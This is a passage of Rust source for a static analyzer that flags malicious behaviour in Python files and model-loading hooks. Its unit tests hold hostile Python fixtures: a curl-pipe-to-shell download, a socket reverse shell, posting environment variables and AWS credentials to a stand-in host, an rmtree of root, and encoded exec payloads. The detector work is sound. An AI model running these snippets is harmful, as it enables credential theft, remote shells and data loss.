                    _ => plain.iter().skip(1).flat_map(|v| if let What::Seq(s) = &v.what { s.to_vec() } else { vec![v.clone()] }).collect(),
                };
                for (_, v) in args {
                    match &v.what {
                        What::Local(s) => {
                            let s = *s;
                            self.call_local(s, &[]);
                        }
                        // Called through another one that calls: once is enough.
                        What::Path(p) if !matches!(effect::of(p), None | Some(Effect::Calls)) => {
                            let p = p.clone();
                            let rest: Vec<(Option<Rc<str>>, Value)> = given.iter().cloned().map(|v| (None, v)).collect();
                            if let Some(e) = effect::of(&p) {
                                let _ = self.act(e, &p, &rest, &given, from, at, end);
                            }
                        }
                        What::Unknown => {
                            if let Some(name) = &v.name {
                                self.edge(Edge::Name(name.clone()));
                            }
                        }
                        _ => {}
                    }
                }
                Some(Value::unknown(from, at))
            }
            Effect::Module => {
                if names_data(self.src.get(at..end).unwrap_or(&[])) {
                    self.note("run-data", at, end);
                }
                None
            }
            Effect::Registry => {
                let runs = |t: &str| t.to_ascii_lowercase().replace("\\\\", "\\").contains("currentversion\\run");
                if plain.get(1).or_else(|| named(&["sub_key"])).and_then(Value::as_str).is_some_and(runs) {
                    self.note("write-startup", at, end);
                }
                None
            }
            Effect::Redirect => {
                if first.is_some_and(|v| v.from & origin::NET != 0 || v.as_path().is_some_and(|p| p.contains("socket"))) {
                    self.note("redirect", at, end);
                }
                None
            }
        }
    }

    /// Keeps the name of a file that something was downloaded to, if enough of it is known to know it again.
    fn downloaded(&mut self, name: Vec<u8>) {
        if String::from_utf8_lossy(&name).replace("$x", "").len() > 2 {
            self.downloads.insert(name);
        }
    }

    fn network(&mut self, from: u16, sends: bool, at: usize, end: usize) {
        let what = if from & (origin::ENV_ALL | origin::SECRET) != 0 {
            "send-secrets"
        } else if from & (origin::ENV | origin::HOST) != 0 {
            "send-private"
        } else if sends {
            "send"
        } else {
            "fetch"
        };
        self.note(what, at, end);
    }

    fn process(&self, path: &str, command: Option<&Value>, rest: &[Value], args: &[(Option<Rc<str>>, Value)]) -> &'static str {
        if path.starts_with("pip.") {
            return "install";
        }
        let from = command.map_or(0, |v| v.from);
        let piped =
            args.iter().any(|a| a.0.as_deref().is_some_and(|n| matches!(n, "stdin" | "stdout")) && a.1.as_path().is_some_and(|p| p.starts_with("socket.")));
        if piped {
            return "reverse-shell";
        }
        if from & origin::DECODED != 0 {
            return "run-decoded";
        }
        // An address that came from the network, given to what fetches it, is not yet run.
        let fetcher = matches!(command.map(|v| &v.what), Some(What::Seq(s)) if s.first().and_then(Value::as_str).is_some_and(super::shell::is_fetcher));
        if from & origin::NET != 0 && !fetcher {
            return "run-download";
        }
        let separate = path.contains("exec") || path.contains("spawn");
        let words: Vec<Vec<u8>> = match command.map(|v| &v.what) {
            Some(What::Seq(s)) => s.iter().map(Value::shown).collect(),
            _ if separate && path != "pty.spawn" => rest.iter().map(Value::shown).collect(),
            Some(What::Text(t)) => vec![t.to_vec()],
            _ => {
                return if path == "pty.spawn" { "process" } else { "process-unknown" };
            }
        };
        let line: Vec<u8> = if words.len() > 1 { words.iter().map(|w| quote(w)).collect::<Vec<_>>().join(&b' ') } else { words.concat() };
        // A downloaded file that another program than an interpreter is given is read, not run.
        let argument = |d: &Vec<u8>| match words.split_first() {
            Some((first, rest)) if !rest.is_empty() => {
                let program = String::from_utf8_lossy(first);
                !first.windows(d.len()).any(|w| w == d) && !program.contains(['$', ' ']) && !super::shell::is_interpreter(&program)
            }
            _ => false,
        };
        if self.downloads.iter().any(|d| !d.is_empty() && line.windows(d.len()).any(|w| w == d) && !argument(d)) {
            return "run-download";
        }
        let text = String::from_utf8_lossy(&line);
        super::shell::judge(&text).unwrap_or(if text.starts_with("$x") { "process-unknown" } else { "process" })
    }

    fn exec(&mut self, path: &str, code: Option<&Value>, at: usize, end: usize) -> Option<Value> {
        let code = code?;
        let eval = path == "eval";
        let what = if code.from & (origin::NET | origin::HUB) != 0 {
            "run-download"
        } else if code.from & origin::DECODED != 0 {
            if code.constant() || self.block.scope == 0 { "run-decoded" } else { "run-decoded-later" }
        } else if let What::Text(t) = &code.what
            && !matches!(path, "runpy.run_path" | "runpy.run_module" | "execfile" | "types.FunctionType" | "types.CodeType" | "types.LambdaType")
        {
            let t = t.to_vec();
            let simple = t.iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.'));
            if eval && simple {
                let mut parts = std::str::from_utf8(&t).unwrap_or("").split('.');
                let mut v = self.lookup(&parts.next().unwrap_or("").into(), at);
                for p in parts.take(20) {
                    v = self.attribute(v, p);
                }
                return Some(v);
            }
            if code.constant() {
                self.note_inner("constant-source", at, end, Some(t));
                return None;
            }
            "run-composed"
        } else if code.from & origin::FILE != 0 || matches!(path, "runpy.run_path" | "runpy.run_module" | "execfile") {
            if names_data(self.src.get(at..end).unwrap_or(&[])) { "run-data" } else { "run-file" }
        } else if path == "types.FunctionType" && code.as_path() == Some("types.CodeType()") {
            "bytecode"
        } else if path.starts_with("types.") || path.starts_with("timeit") || path.ends_with("Profile.run") || path == "profile.run" {
            return None;
        } else if eval {
            "eval-unknown"
        } else {
            "run-unknown"
        };
        self.note(what, at, end);
        None
    }

    /// For every scope the earliest moment that it runs at.
    fn moments(&self, start: When) -> Vec<Option<When>> {
        let mut out: Vec<Option<When>> = vec![None; self.scopes.len()];
        let by_name: HashMap<&str, usize> =
            self.scopes.iter().enumerate().filter(|(_, s)| s.parent == 0 && s.sort != Sort::Module).map(|(i, s)| (&*s.name, i)).collect();
        let mut edges: HashMap<usize, Vec<(Guard, usize)>> = HashMap::new();
        for (from, guard, edge) in &self.edges {
            let to = match edge {
                Edge::Scope(s) => Some(*s),
                Edge::Name(n) => by_name.get(&**n).copied(),
                Edge::Member(class, n) => self.scopes.get(*class).and_then(|s| s.members.get(n)).copied(),
            };
            if let Some(to) = to {
                edges.entry(*from).or_default().push((*guard, to));
                if let Some(init) = self.scopes.get(to).filter(|s| s.sort == Sort::Class).and_then(|s| s.members.get("__init__")) {
                    edges.entry(*from).or_default().push((*guard, *init));
                }
            }
        }
        // What a function is handed runs with it if it calls one of its parameters.
        for (from, guard, callee, given) in &self.passed {
            let own = self.scopes.get(*callee).map(|s| &s.names);
            let calls = |(scope, _, edge): &(usize, Guard, Edge)| matches!(edge, Edge::Name(n) if scope == callee && own.is_some_and(|o| o.contains_key(n)));
            if self.edges.iter().any(calls) {
                edges.entry(*from).or_default().push((*guard, *given));
            }
        }
        let mut queue: Vec<(usize, When)> = vec![(0, start)];
        for (id, s) in self.scopes.iter().enumerate() {
            if s.sort == Sort::Function && self.hook(s) {
                queue.push((id, start.max(When::Load)));
            }
        }
        // Four moments: each scope is visited at most once for each.
        while let Some((id, when)) = queue.pop() {
            let Some(slot) = out.get_mut(id) else {
                continue;
            };
            if slot.is_some_and(|w| w <= when) {
                continue;
            }
            *slot = Some(when);
            // A class's body runs with its surroundings.
            if let Some(s) = self.scopes.get(id) {
                for m in s.members.values() {
                    if let Some(inner) = self.scopes.get(*m)
                        && inner.sort == Sort::Class
                        && inner.guard != Guard::Never
                    {
                        queue.push((*m, if inner.guard == Guard::Main { when.max(When::Main) } else { when }));
                    }
                }
            }
            for (guard, to) in edges.get(&id).into_iter().flatten() {
                match guard {
                    Guard::Always => queue.push((*to, when)),
                    Guard::Main => queue.push((*to, when.max(When::Main))),
                    Guard::Never => {}
                }
            }
        }
        out
    }

    fn moment(&self, moments: &[Option<When>], found: &Found) -> Option<When> {
        let when = moments.get(found.scope).copied().flatten().unwrap_or(When::Call);
        match found.guard {
            Guard::Always => Some(when),
            Guard::Main => Some(when.max(When::Main)),
            Guard::Never => None,
        }
    }

    /// Whether a library calls this by itself when it loads, serves or installs what the source belongs to.
    fn hook(&self, s: &Scope) -> bool {
        let Some(parent) = self.scopes.get(s.parent) else {
            return false;
        };
        match parent.sort {
            Sort::Module => {
                (self.generates && &*s.name == "generate")
                    || matches!(&*s.name, "handle" | "model_fn" | "input_fn" | "predict_fn" | "output_fn" | "transform_fn" | "_load_pyfunc" | "__getattr__")
            }
            Sort::Class => {
                let last = |b: &String| b.rsplit('.').next().unwrap_or("").to_string();
                let installs = parent.bases.iter().map(last).any(|b| matches!(b.as_str(), "install" | "develop" | "egg_info"));
                // Model servers ask for methods, not for a base: TorchServe's handlers have these two.
                let serves = parent.members.contains_key("initialize") && (parent.members.contains_key("handle") || parent.members.contains_key("execute"));
                let loads = serves
                    || matches!(&*parent.name, "EndpointHandler" | "TritonPythonModel" | "PreTrainedPipeline" | "PythonModel")
                    || parent.bases.iter().map(last).any(|b| {
                        matches!(
                            b.as_str(),
                            "Module"
                                | "Model"
                                | "Layer"
                                | "ModelMixin"
                                | "ConfigMixin"
                                | "SchedulerMixin"
                                | "ProcessorMixin"
                                | "PythonModel"
                                | "LightningModule"
                                | "GeneratorBasedBuilder"
                                | "ArrowBasedBuilder"
                                | "FeatureExtractionMixin"
                                | "ImageProcessingMixin"
                        ) || [
                            "PreTrainedModel", "PretrainedModel", "Config", "Tokenizer", "TokenizerFast", "PreTrainedTokenizerBase", "Processor",
                            "ImageProcessor", "FeatureExtractor", "Handler", "Pipeline", "ForCausalLM", "ForConditionalGeneration",
                        ]
                        .iter()
                        .any(|e| b.ends_with(e))
                    });
                installs && matches!(&*s.name, "run" | "initialize_options" | "finalize_options" | "__init__")
                    || loads
                        && matches!(
                            &*s.name,
                            "__init__"
                                | "__new__"
                                | "__post_init__"
                                | "__init_subclass__"
                                | "from_pretrained"
                                | "_from_pretrained"
                                | "from_dict"
                                | "load"
                                | "_load"
                                | "load_model"
                                | "load_context"
                                | "load_state_dict"
                                | "_load_from_state_dict"
                                | "__setstate__"
                                | "initialize"
                                | "setup"
                                | "post_init"
                                | "_init_weights"
                                | "forward"
                                | "__call__"
                                | "call"
                                | "build"
                                | "handle"
                                | "inference"
                                | "preprocess"
                                | "postprocess"
                                | "predict"
                                | "auto_complete_config"
                                | "_info"
                                | "_split_generators"
                                | "_generate_examples"
                                | "execute"
                                | "generate"
                        )
            }
            Sort::Function => false,
        }
    }
}

/// Methods that run because an object is made, and those that its use runs without naming them: by signs, loops and brackets.
const MADE: &[&str] = &[
    "find_spec", "find_module", "create_module", "exec_module", "load_module", "__init__", "__new__", "__post_init__", "__del__", "__getitem__", "__setitem__",
    "__add__", "__radd__", "__sub__", "__mul__", "__matmul__", "__truediv__", "__or__", "__and__", "__xor__", "__lshift__", "__rshift__", "__mod__",
    "__iter__", "__next__", "__contains__", "__eq__", "__lt__", "__gt__", "__neg__", "__invert__", "__bool__", "__str__", "__repr__", "__format__",
    "__index__", "__hash__", "__set_name__", "__get__",
];

/// Whether a library lies beside the source or the model: its folder is not known, its name is.
fn brought(path: &str) -> bool {
    let name = path.rsplit(['/', '\\']).next().unwrap_or("");
    [".so", ".dll", ".dylib", ".pyd"].iter().any(|e| name.ends_with(e)) && !name.contains("$x")
}

/// Whether a call names a file whose ending says that it holds data: weights, settings, pictures.
fn names_data(call: &[u8]) -> bool {
    const DATA: &[&[u8]] = &[
        b"json", b"bin", b"pt", b"pth", b"ckpt", b"safetensors", b"gguf", b"onnx", b"h5", b"npy", b"npz", b"pkl", b"dat", b"png", b"jpg", b"gif", b"model",
        b"msgpack", b"md", b"csv", b"zip",
    ];
    call.len() < 4000
        && call.split(|b| matches!(b, b'\'' | b'"')).skip(1).step_by(2).any(|quoted| {
            let mut parts = quoted.rsplit(|b| *b == b'.');
            let ending = parts.next().unwrap_or(&[]);
            parts.next().is_some() && DATA.contains(&ending)
        })
}

/// Leaves the newline behind a header to the main loop.
fn continue_to_newline(w: &mut Walker<'_>) {
    if w.peek().kind == Kind::Newline {
        w.next();
    }
}

/// One word as a shell would need it written.
fn quote(word: &[u8]) -> Vec<u8> {
    if word.iter().all(|c| c.is_ascii_alphanumeric() || b"-_./:=@%+,$~".contains(c)) && !word.is_empty() {
        return word.to_vec();
    }
    let mut out = vec![b'\''];
    out.extend(word.iter().filter(|c| **c != b'\''));
    out.push(b'\'');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What a source does, in order of appearance, without what is always said.
    fn does(text: &str) -> Vec<(&'static str, When)> {
        let mut walker = Walker::new(text.as_bytes());
        walker.run();
        let moments = walker.moments(When::Import);
        let mut out: Vec<(&'static str, When)> = walker.found.iter().filter_map(|f| walker.moment(&moments, f).map(|m| (f.what, m))).collect();
        out.dedup();
        out
    }

    fn first(text: &str) -> Option<(&'static str, When)> {
        does(text).into_iter().find(|f| f.0 != "fetch")
    }

    #[test]
    fn a_program_is_found_however_it_is_called() {
        for text in [
            "import os\nos.system('id')",
            "import os as o; o.system('id')",
            "from os import system as s\ns('id')",
            "from os import *\nsystem('id')",
            "import subprocess as sp\nsp.Popen(['id'], shell=True)",
            "__import__('os').system('id')",
            "import importlib\nimportlib.import_module('os').popen('id')",
            "import os\nf = os.system\nf('id')",
            "import os\nx = [os.system][0]\nx('id')",
            "import os\n(lambda: os.system('id'))()",
            "import os\nprint(f'{os.system(\"id\")}')",
            "import os\nclass A:\n    x = os.system('id')\n",
            "import os\ndef f(x=os.system('id')):\n    pass\n",
            "import os\n@os.system\ndef f(): pass\n",
            "import os\ndef f():\n    os.system('id')\n\nf()\n",
            "def f():\n    g()\ndef g():\n    import os\n    os.system('id')\nf()\n",
            "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('id')\nA()\n",
            "import sys\nsys.modules['os'].system('id')",
            "import os\nos.__dict__['system']('id')",
            "import os\nvars(os)['system']('id')",
            "import os, functools\nfunctools.partial(os.system, 'id')()",
            "import os\nlist(map(os.system, ['id']))",
            "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
            "import shutil\nshutil.os.system('id')",
            "import posix\nposix.system('id')",
            "import operator, os\noperator.attrgetter('system')(os)('id')",
            "exec('import os; os.system(\"id\")')",
            "if True:\n  import os\n  if 1: os.system('id')\n",
            "try:\n    import os\n    os.system('id')\nexcept Exception, e:\n    pass\n",
            "import os\nx = 1 if os.system('id') else 2\n",
            "import os\n[os.system(c) for c in ['id']]\n",
            "import os\nwith open('x') as f: os.system('id')\n",
            "globals()['__builtins__'].__import__('os').system('id')",
            "import pty\npty.spawn('/bin/sh')",
            "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))",
        ] {
            let got = does(text);
            let nested = got.iter().any(|f| f.0 == "constant-source");
            assert!(nested || got.iter().any(|f| matches!(f.0, "process" | "process-unknown" | "handed") && f.1 == When::Import), "{text}: {got:?}");
        }
    }

    #[test]
    fn names_in_pieces_and_decoded_code() {
        for text in [
            "import os\ngetattr(os, 'sys'+'tem')('id')",
            "import os\ngetattr(os, 'metsys'[::-1])('id')",
            "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')",
            "import os\ngetattr(os, ''.join(chr(c) for c in [115, 121]))('id')",
            "__import__('o'+'s').system('id')",
            "getattr(__builtins__, 'ex'+'ec')('x')",
        ] {
            assert!(does(text).iter().any(|f| f.0 == "hidden-name"), "{text}: {:?}", does(text));
        }
        for text in [
            "import base64\nexec(base64.b64decode('aWQ='))",
            "exec(__import__('base64').b64decode(b'aWQ=').decode())",
            "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))",
            "exec(bytes.fromhex('6964'))",
            "exec(''.join(chr(x ^ 3) for x in [1, 2]))",
            "exec(bytes([105, 100]))",
            "import codecs\neval(codecs.decode('vq', 'rot13'))",
            "import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d('aWQ='))",
            "import base64, os\nos.system(base64.b64decode('aWQ=').decode())",
            "exec(compile(__import__('zlib').decompress(b'x'), '', 'exec'))",
            "exec 'aWQ='.decode('base64')",
        ] {
            assert!(does(text).iter().any(|f| f.0 == "run-decoded"), "{text}: {:?}", does(text));
        }
    }

    #[test]
    fn what_comes_from_where_goes_where() {
        for (text, what) in [
            ("import requests\nexec(requests.get('http://x').text)", "run-download"),
            ("from urllib.request import urlopen\nexec(urlopen('http://x').read())", "run-download"),
            ("import urllib.request, os\nurllib.request.urlretrieve('http://x', '/tmp/a')\nos.system('sh /tmp/a')", "run-download"),
            ("import os\nos.system('curl http://x | sh')", "run-download"),
            ("import requests, os\nrequests.post('http://x', data=dict(os.environ))", "send-secrets"),
            ("import os, requests\nrequests.post('http://x', data=open(os.path.expanduser('~/.aws/credentials')).read())", "read-secret"),
            ("import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n", "write-startup"),
            ("from pathlib import Path\n(Path.home() / '.bashrc').write_text('x')", "write-startup"),
            ("import socket, os\ns = socket.socket()\ns.connect(('1.2.3.4', 9))\nos.dup2(s.fileno(), 0)\nos.execv('/bin/sh', ['sh', '-i'])", "reverse-shell"),
            ("import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1)", "inject"),
            ("().__class__.__base__.__subclasses__()[99]", "object-escape"),
            ("import shutil\nshutil.rmtree('/')", "wipe"),
            ("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])", "install"),
            ("import subprocess\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])", "probe"),
            ("ｅｘｅｃ('x')", "disguised-name"),
        ] {
            assert!(does(text).iter().any(|f| f.0 == what), "{text}: {:?}", does(text));
        }
    }

    #[test]
    fn the_moment_decides() {
        let call = "import os\ndef f():\n    os.system('id')\n";
        assert_eq!(first(call), Some(("process", When::Call)));
        assert_eq!(first("import os\nif __name__ == '__main__':\n    os.system('id')\n"), Some(("process", When::Main)));
        assert_eq!(first("import os\ndef f():\n    os.system('id')\nif __name__ == '__main__':\n    f()\n"), Some(("process", When::Main)));
        assert_eq!(
            first("import os\nfrom x import M\nclass A(PreTrainedModel):\n    def __init__(self, c):\n        os.system('id')\n"),
            Some(("process", When::Load))
        );
        assert_eq!(
            first("import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.x()\n    def x(self):\n        os.system('id')\n"),
            Some(("process", When::Load))
        );
        assert_eq!(
            first("from setuptools.command.install import install\nimport os\nclass P(install):\n    def run(self):\n        os.system('id')\n"),
            Some(("process", When::Load))
        );
    }

    #[test]
    fn ordinary_code_says_nothing() {
        for text in [
            "import torch\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, n: int = 3):\n        super().__init__()\n        self.l = nn.Linear(n, n)\n    def forward(self, x):\n        return getattr(torch.nn.functional, self.act)(x)\n",
            "model.eval()\nx = re.compile('a')\nos.makedirs('x')\nself.system = 1\n",
            "from transformers import AutoModel\nmodel = AutoModel.from_pretrained('x', trust_remote_code=True)\nprint(model.compile())\n",
            "# os.system('id')\n'''\nexec(x)\n'''\n",
        ] {
            assert_eq!(does(text), [], "{text}");
        }
    }

    #[test]
    fn python_is_told_from_other_texts() {
        let told = |text: &str| likeness(text.as_bytes(), false);
        for text in [
            "import os; os.system('x')\n", "from a import b\nx = b(1)\n", "print('x')\nfoo.bar(1)\n", "'''Doc of many words and lines.\n'''\nimport x\n",
            "def f(x):\n  return x\n", "f(a=(1)).b = g(2)\n", "x[f(1)] = h(3)\n",
        ] {
            assert_eq!(told(text), Some(true), "{text}");
        }
        for text in [
            "Import taxes rose by a lot.\nNobody knows why.\n",
            "a: 1\nb:\n  - c\n",
            "x,y\n1,2\n",
            "# Title\n\nSome words here (and there).\n\n```python\nimport os\n```\n",
            "const x = require('y');\nfunction f() { return x; }\n",
            "#include <stdio.h>\nint main() { return 0; }\n",
            "the\nquick\nbrown\n",
            "echo hello\nrm -rf x\n",
            "[section]\nkey = value\n",
            "SHA256 (model.bin) = 98ea6e4f216f2fb4b69fff9b3a44842c38686ca685f3f55dc48c5d3fb1107be4\n",
            "MD5 (a.bin) = b10a8db164e0754105b7a99be72e3fe5\nMD5 (b) = x\n",
        ] {
            assert_ne!(told(text), Some(true), "{text}");
        }
    }

    #[test]
    fn nothing_that_is_written_stops_it() {
        let deep = [
            "(".repeat(5000),
            "[".repeat(5000),
            "f'{".repeat(3000),
            "lambda:".repeat(5000),
            "x.y".repeat(20_000),
            "if x:\n ".repeat(3000),
            "def f(".repeat(3000),
            "a=b=".repeat(9000),
            "@".repeat(9000),
            "x[1:".repeat(3000),
            "not ".repeat(9000),
            "'a'+".repeat(20_000),
            "{**".repeat(9000),
            "\\\n".repeat(9000),
            ":".repeat(9000),
            "import ".repeat(9000),
            "a;".repeat(9000),
        ];
        for text in deep {
            does(&text);
        }
        let seed = "import os\nclass A(B):\n    def f(self, x=[1, {2: 3}], *a, **k) -> int:\n        return f'{x!r:>{k}}' if (yield) else lambda y: y[::-1]\nexec('a' 'b' + r\"c\")\n";
        for i in 0..seed.len() {
            for with in ["", "(", "'", "\"\"\"", "\n", ":", "]", "f'{", "\\"] {
                let mut text = seed.to_string();
                text.replace_range(i..i + 1, with);
                does(&text);
            }
        }
    }
}
